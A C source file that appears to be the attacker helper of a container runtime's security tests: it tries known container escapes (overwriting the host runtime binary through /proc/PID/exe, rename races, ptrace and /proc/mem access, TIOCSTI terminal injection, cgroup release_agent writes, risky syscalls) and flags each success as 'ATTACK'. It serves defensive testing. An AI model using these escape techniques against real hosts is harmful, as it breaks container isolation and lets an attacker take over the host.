// SPDX-License-Identifier: Apache-2.0
// What the attacks on the runtime are made with: one static program, run on the host beside the runtime (`swap`) or as
// a program of the hostile container (all others). Every command prints what it could do; a line that begins with
// "ATTACK" is a success that must not be.
//
//	swap A B         exchanges the two names until SIGTERM comes, then prints how often
//	exe SECONDS      tries to write to the program of every other process
//	watch SECONDS    looks into every process that appears: descriptors, memory, environment, ptrace
//	                 both until there is /tmp/enough, at most so long
//	tty              types into every terminal that it can reach
//	calls NAME...    makes system calls and prints how each ended
//	release          mounts a v1 hierarchy in a user namespace of its own and writes its release_agent
//	abstract         connects to every abstract socket that it can see
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t ended;

static void end(int signal)
{
	(void) signal;
	ended = 1;
}

static double now(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return (double) time.tv_sec + (double) time.tv_nsec / 1e9;
}

static bool goes_on(double last)
{
	return now() < last && access("/tmp/enough", F_OK) != 0;
}

// swap

static int swap(char **names)
{
	unsigned long count = 0;

	prctl(PR_SET_PDEATHSIG, SIGTERM);
	signal(SIGTERM, end);
	while (!ended) {
		if (renameat2(AT_FDCWD, names[0], AT_FDCWD, names[1], RENAME_EXCHANGE) == 0)
			count++;
		else if (errno != EBUSY)
			usleep(100);
	}
	// An even number leaves the names as they were.
	if (count % 2)
		renameat2(AT_FDCWD, names[0], AT_FDCWD, names[1], RENAME_EXCHANGE);
	printf("%lu swaps\n", count);
	return count == 0;
}

// exe: a process's program is kept by an O_PATH descriptor, and opened for writing through that as soon as nobody
// executes it any more.

#define KEPT 64

struct program {
	dev_t device;
	ino_t inode;
	int fd;
};

static bool is_own(const struct stat *st)
{
	struct stat own;

	return (stat("/proc/self/exe", &own) == 0 && own.st_ino == st->st_ino && own.st_dev == st->st_dev) ||
	       (stat("/bin/busybox", &own) == 0 && own.st_ino == st->st_ino && own.st_dev == st->st_dev);
}

static void keep_program(struct program *programs, size_t *count, const char *pid)
{
	char path[NAME_MAX + 32];
	struct stat st;

	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	bool known = fstat(fd, &st) < 0 || is_own(&st) || *count == KEPT;
	for (size_t i = 0; !known && i < *count; i++)
		known = programs[i].inode == st.st_ino && programs[i].device == st.st_dev;
	if (known) {
		close(fd);
		return;
	}
	programs[(*count)++] = (struct program){st.st_dev, st.st_ino, fd};
	printf("seen %s\n", path);
}

// Whether the bytes at the file's start are others than these.
static bool is_changed(int fd, const char *before, size_t length)
{
	char bytes[64];

	return pread(fd, bytes, length, 0) != (ssize_t) length || memcmp(bytes, before, length) != 0;
}

// All ways to change a file that is open for writing. A sealed one lets itself be opened, and changed by none of them.
static void write_program(const struct program *program)
{
	char path[NAME_MAX + 32], before[64], evil[sizeof before] = "#!/evil\n";
	struct stat st, now;

	snprintf(path, sizeof path, "/proc/self/fd/%d", program->fd);
	int fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0)
		fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	int readable = open(path, O_RDONLY | O_CLOEXEC);
	if (readable < 0 || fstat(fd, &st) < 0 ||
	    pread(readable, before, sizeof before, 0) != (ssize_t) sizeof before) {
		printf("ATTACK: a program of the host is open for writing, and cannot be looked at\n");
		return;
	}
	printf("opened for writing\n");
	ssize_t written = pwrite(fd, evil, sizeof evil, 0);
	char *mapped = mmap(NULL, sizeof evil, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (mapped != MAP_FAILED) {
		memcpy(mapped, evil, sizeof evil);
		munmap(mapped, sizeof evil);
	}
	int punched = fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, sizeof evil);
	int cut = ftruncate(fd, st.st_size / 2);
	int grown = ftruncate(fd, st.st_size + 1);
	if (written > 0 || mapped != MAP_FAILED || punched == 0 || cut == 0 || grown == 0 || fstat(fd, &now) < 0 ||
	    now.st_size != st.st_size || is_changed(readable, before, sizeof before))
		printf("ATTACK: a program of the host is written\n");
	close(readable);
	close(fd);
}

static int attack_programs(double seconds)
{
	struct program programs[KEPT];
	size_t count = 0;
	unsigned long rounds = 0;

	printf("trying\n");
	for (double last = now() + seconds; goes_on(last); rounds++) {
		DIR *list = opendir("/proc");
		for (struct dirent *entry; list && (entry = readdir(list));)
			if (*entry->d_name >= '1' && *entry->d_name <= '9')
				keep_program(programs, &count, entry->d_name);
		if (list)
			closedir(list);
		for (size_t i = 0; i < count; i++)
			write_program(&programs[i]);
	}
	printf("%lu rounds, %zu programs\n", rounds, count);
	fflush(stdout);
	return 0;
}

// watch: for as long as another's program is not the container's own, nothing of it may be reached.

// Whether the process is the runtime still; the container's own programs are beneath /bin.
static bool is_foreign(const char *pid)
{
	char path[NAME_MAX + 32], target[PATH_MAX];

	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	ssize_t n = readlink(path, target, sizeof target - 1);
	if (n <= 0)
		return false;
	target[n] = 0;
	return strncmp(target, "/bin/", 5) != 0;
}

static void look_at_descriptors(const char *pid)
{
	char folder[NAME_MAX + 32], target[PATH_MAX];
	DIR *list;

	snprintf(folder, sizeof folder, "/proc/%s/fd", pid);
	list = opendir(folder);
	for (struct dirent *entry; list && (entry = readdir(list));) {
		ssize_t n =
			*entry->d_name == '.' ? -1 : readlinkat(dirfd(list), entry->d_name, target, sizeof target - 1);
		if (n > 0 && is_foreign(pid)) {
			target[n] = 0;
			printf("descriptor %s\n", target);
			// Whatever folder it is: the host's file must not be reachable from it.
			char beneath[PATH_MAX + 64];
			snprintf(beneath, sizeof beneath, "%s/../../../../../../../../..%s", entry->d_name,
				 getenv("CANARY") ? getenv("CANARY") : "/nowhere");
			if (faccessat(dirfd(list), beneath, F_OK, 0) == 0)
				printf("ATTACK: the host's files through descriptor %s (%s)\n", entry->d_name, target);
		}
	}
	if (list)
		closedir(list);
}

static void look_at_environment(const char *pid)
{
	char path[NAME_MAX + 32], text[65536];

	snprintf(path, sizeof path, "/proc/%s/environ", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof text);
	if (n > 0 && memmem(text, (size_t) n, "HOST_SECRET", strlen("HOST_SECRET")))
		printf("ATTACK: the environment of the runtime in %s\n", path);
	if (fd >= 0)
		close(fd);
}

static void trace(const char *pid)
{
	pid_t number = (pid_t) atoi(pid);

	if (ptrace(PTRACE_SEIZE, number, NULL, NULL) < 0)
		return;
	ptrace(PTRACE_INTERRUPT, number, NULL, NULL);
	waitpid(number, NULL, __WALL);
	if (is_foreign(pid))
		printf("ATTACK: traced the runtime\n");
	ptrace(PTRACE_DETACH, number, NULL, NULL);
}

static void write_memory(const char *pid)
{
	char path[NAME_MAX + 32];

	snprintf(path, sizeof path, "/proc/%s/mem", pid);
	int fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd >= 0 && is_foreign(pid))
		printf("ATTACK: the memory of the runtime is open\n");
	if (fd >= 0)
		close(fd);
}

static int watch(double seconds)
{
	unsigned long looks = 0, foreign = 0;

	printf("watching\n");
	for (double last = now() + seconds; goes_on(last);) {
		DIR *list = opendir("/proc");
		for (struct dirent *entry; list && (entry = readdir(list));) {
			if (*entry->d_name < '1' || *entry->d_name > '9' || atoi(entry->d_name) == getpid() ||
			    atoi(entry->d_name) == 1)
				continue;
			looks++;
			foreign += is_foreign(entry->d_name);
			look_at_descriptors(entry->d_name);
			look_at_environment(entry->d_name);
			write_memory(entry->d_name);
			trace(entry->d_name);
		}
		if (list)
			closedir(list);
	}
	printf("%lu looks, %lu at the runtime\n", looks, foreign);
	fflush(stdout);
	return 0;
}

// tty

static int type_into_terminals(void)
{
	static const char *const paths[] = {"/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2", "/dev/tty",
					    "/dev/console"};
	char letter = 'X';

	for (size_t i = 0; i < sizeof paths / sizeof *paths; i++) {
		int fd = open(paths[i], O_RDWR | O_NOCTTY | O_CLOEXEC);
		if (fd >= 0 && ioctl(fd, TIOCSTI, &letter) == 0)
			printf("ATTACK: typed into %s\n", paths[i]);
		else
			printf("%s: %s\n", paths[i], strerror(errno));
	}
	return 0;
}

// calls

struct call {
	const char *name;
	long number, arguments[4];
};

static const char no_arguments[256];

static const struct call calls[] = {
	{"unshare-user", SYS_unshare, {CLONE_NEWUSER}},
	{"unshare-mount", SYS_unshare, {CLONE_NEWNS}},
	{"clone-user", SYS_clone, {CLONE_NEWUSER | SIGCHLD}},
	{"clone3", SYS_clone3, {(long) no_arguments, 64}},
	{"mount", SYS_mount, {0, 0, 0, 0}},
	{"fsopen", SYS_fsopen, {(long) "tmpfs", 0}},
	{"bpf", SYS_bpf, {0, 0, 0}},
	{"userfaultfd", SYS_userfaultfd, {0}},
	{"keyctl", SYS_keyctl, {0, -3, 0}},
	{"add_key", SYS_add_key, {(long) "user", (long) "a", (long) "b", 1}},
	{"io_uring_setup", SYS_io_uring_setup, {1, (long) no_arguments}},
	{"open_by_handle_at", SYS_open_by_handle_at, {AT_FDCWD, (long) no_arguments, 0}},
	{"kexec_load", SYS_kexec_load, {0, 0, 0}},
	{"init_module", SYS_init_module, {0, 0, 0}},
	{"perf_event_open", SYS_perf_event_open, {0, 0, 0}},
	{"setns", SYS_setns, {-1, 0}},
	{"pivot_root", SYS_pivot_root, {0, 0}},
	{"process_vm_readv", SYS_process_vm_readv, {0, 0, 0}},
	{"getpid", SYS_getpid, {0}},
};

static int make_calls(char **names)
{
	for (; *names; names++) {
		for (size_t i = 0; i < sizeof calls / sizeof *calls; i++) {
			if (strcmp(*names, calls[i].name) != 0)
				continue;
			const long *a = calls[i].arguments;
			errno = 0;
			long result = syscall(calls[i].number, a[0], a[1], a[2], a[3]);
			if (result == 0 && calls[i].number == SYS_clone)
				_exit(0);
			printf("%s %s\n", *names, result < 0 ? strerrorname_np(errno) : "worked");
		}
	}
	return 0;
}

// release

static int write_release_agent(void)
{
	static const char *const controllers[] = {"rdma", "misc", "memory", "pids", "net_cls", "cpuset", "freezer"};
	bool mounted = false;

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0) {
		printf("unshare: %s\n", strerror(errno));
		return 0;
	}
	printf("in a user namespace\n");
	mkdir("/tmp/hierarchy", 0755);
	for (size_t i = 0; !mounted && i < sizeof controllers / sizeof *controllers; i++)
		mounted = mount("none", "/tmp/hierarchy", "cgroup", 0, controllers[i]) == 0;
	if (!mounted) {
		printf("mount: %s\n", strerror(errno));
		return 0;
	}
	int fd = open("/tmp/hierarchy/release_agent", O_WRONLY | O_CLOEXEC);
	if (fd >= 0 && write(fd, "/evil", 5) == 5)
		printf("ATTACK: release_agent is written\n");
	else
		printf("release_agent: %s\n", strerror(errno));
	return 0;
}

// abstract

static int connect_to_abstract(void)
{
	char line[512];
	FILE *list = fopen("/proc/net/unix", "re");

	while (list && fgets(line, sizeof line, list)) {
		char *name = strchr(line, '@');
		if (!name)
			continue;
		name[strcspn(name, "\n")] = 0;
		struct sockaddr_un address = {.sun_family = AF_UNIX};
		size_t length = strlen(name) < sizeof address.sun_path ? strlen(name) : sizeof address.sun_path;
		memcpy(address.sun_path, name, length);
		address.sun_path[0] = 0;
		static const int types[] = {SOCK_STREAM, SOCK_SEQPACKET, SOCK_DGRAM};
		for (size_t i = 0; i < sizeof types / sizeof *types; i++) {
			int fd = socket(AF_UNIX, types[i] | SOCK_CLOEXEC, 0);
			socklen_t size = (socklen_t) (offsetof(struct sockaddr_un, sun_path) + length);
			if (connect(fd, (struct sockaddr *) &address, size) == 0)
				printf("connected to %s\n", name);
			close(fd);
		}
	}
	printf("all tried\n");
	return 0;
}

int main(int argc, char **argv)
{
	const char *command = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (strcmp(command, "swap") == 0 && argc == 4)
		return swap(argv + 2);
	if (strcmp(command, "exe") == 0 && argc == 3)
		return attack_programs(atof(argv[2]));
	if (strcmp(command, "watch") == 0 && argc == 3)
		return watch(atof(argv[2]));
	if (strcmp(command, "tty") == 0)
		return type_into_terminals();
	if (strcmp(command, "calls") == 0)
		return make_calls(argv + 2);
	if (strcmp(command, "release") == 0)
		return write_release_agent();
	if (strcmp(command, "abstract") == 0)
		return connect_to_abstract();
	fprintf(stderr, "usage: attacker swap A B | exe SECONDS | watch SECONDS | tty | calls NAME... | release | "
			"abstract\n");
	return 2;
}
